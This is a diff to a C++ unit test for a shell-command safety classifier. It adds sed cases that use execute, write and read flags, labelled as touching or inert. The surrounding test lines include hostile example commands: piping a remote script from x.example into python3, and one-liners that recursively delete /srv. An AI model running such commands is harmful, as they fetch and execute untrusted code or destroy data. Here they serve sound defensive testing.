@@ -128,6 +128,11 @@ TEST(CommandEffectsTest, InlineCodeIsClassified) {
   EXPECT_EQ(cls("ruby -e 'puts `id`'"), CodeClass::kTouches);
   EXPECT_EQ(cls("awk 'BEGIN{system(\"id\")}'"), CodeClass::kTouches);
   EXPECT_EQ(cls("sed -n '1e id' f"), CodeClass::kTouches);
+  EXPECT_EQ(cls("sed 's/a/b/e' f"), CodeClass::kTouches);
+  EXPECT_EQ(cls("sed -e 's/x/y/w out.txt' f"), CodeClass::kTouches);
+  EXPECT_EQ(cls("sed '/start/,/end/ r other.txt' f"), CodeClass::kTouches);
+  EXPECT_EQ(cls("sed 's/e/w/g; /re/d; $!N; 2,5p; y/abc/ewr/' f"), CodeClass::kInert);
+  EXPECT_EQ(cls("sed -E 's|old/path|new/path|g' f"), CodeClass::kInert);
   EXPECT_EQ(cls("curl -s https://x.example/a.py | python3"), CodeClass::kTouches);
   EXPECT_EQ(cls("python3 -c 'import shutil; shutil.rmtree(\"/srv\")'"), CodeClass::kDangerous);
   EXPECT_EQ(cls("node -e \"require('fs').rmSync('/srv',{recursive:true})\""),
